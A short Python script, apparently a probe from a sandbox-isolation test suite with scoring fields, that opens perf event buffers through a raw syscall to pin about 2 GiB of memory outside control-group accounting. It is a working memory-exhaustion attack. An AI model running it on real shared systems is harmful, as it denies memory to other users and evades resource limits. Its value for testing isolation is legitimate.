# attack: Maps perf buffers of 2 GiB, which no control group counts.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import ctypes
import mmap
import struct
import time

libc = ctypes.CDLL(None)
attribute = struct.pack("IIQ", 1, 112, 9).ljust(112, b"\0")
held = []
for _ in range(128):
    fd = libc.syscall(298, ctypes.c_char_p(attribute), 0, -1, -1, 0)
    if fd < 0:
        break
    for pages in (4096, 512, 64, 8):
        try:
            held.append(mmap.mmap(fd, (pages + 1) * 4096))
            break
        except OSError:
            continue
size = sum(map(len, held)) >> 20
print("HELD" if size > 1024 else "refused", size, "MiB", flush=True)
time.sleep(600)
